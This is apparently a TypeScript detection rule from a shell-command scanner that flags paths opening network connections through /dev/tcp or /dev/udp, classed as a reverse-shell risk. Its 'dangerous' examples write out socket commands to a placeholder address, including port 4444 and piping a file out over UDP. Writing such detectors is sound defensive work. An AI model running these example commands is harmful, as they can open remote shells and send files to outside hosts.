import { isKnown, readable } from "../../characters.js";
import { STAGE } from "../advice.js";
import type { Rule } from "../../rule.js";

export const rule = {
  id: "NET-DEVTCP",
  family: "reverse-shell",
  severity: "error",
  why: "opens a connection through /dev/tcp or /dev/udp",
  fix: STAGE,
  checkFile: ({ path }, report) => {
    const start = path.slice(0, 1000);
    // `/dev/$p/$host/$port`
    const [, kind = ""] = /^\/dev\/([^/]+)\/[^/]+\/[^/]+$/.exec(start) ?? [];
    if (/^\/dev\/(tcp|udp)\//.test(start) || (kind !== "" && !isKnown(kind)))
      report(`${readable(start)} is a connection`);
  },
  examples: {
    dangerous: [
      "exec 3<>/dev/tcp/192.0.2.7/4444",
      "cat notes > /dev/udp/192.0.2.7/53",
      "p=tcp; read -r host; exec 5<>/dev/$p/$host/80",
      'read -r kind; cat < "/dev/$kind/192.0.2.7/80"',
    ],
    honest: [
      "echo x > /dev/null",
      "date > /dev/shm/$USER/x",
      "echo /dev/tcp/host/80",
      "cat dev/tcp/a/b",
    ],
  },
} as const satisfies Rule;
